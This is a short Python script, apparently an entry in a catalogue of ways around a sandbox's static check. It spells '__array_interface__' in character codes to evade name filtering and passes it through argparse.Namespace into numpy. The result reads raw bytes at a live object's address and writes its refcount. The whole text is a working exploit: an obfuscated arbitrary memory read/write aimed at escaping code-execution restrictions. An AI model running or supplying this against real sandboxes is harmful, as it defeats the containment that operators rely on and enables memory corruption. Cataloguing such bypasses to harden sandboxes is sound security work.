# source: numpy array interface protocol (data=(address, readonly) read on the instance); sandexec README, "The static check", addendum on NAME["literal"]
# family: spread of an item of a literal-key dict into argparse.Namespace -> __array_interface__
# goal: np.asarray(ns) reads 32 raw bytes at an object's address and writes its refcount
import argparse
import numpy as np
def s(*c):
    return "".join(map(chr, c))
class Box:
    pass
box = Box()
def mk():
    addr = int(repr(box).split()[-1][:-1], 16)
    key = s(95, 95) + s(97,114,114,97,121,95,105,110,116,101,114,102,97,99,101) + s(95, 95)
    return {key: {"data": (addr, False), "shape": (32,), "typestr": "|u1", "version": 3}}
opts = {"sub": mk()}
ns = argparse.Namespace(**opts["sub"])
view = np.asarray(ns)
print("raw bytes of a live object:", view.tolist())
view[0] = view[0] + 1
print("refcount byte written through it:", view[0])
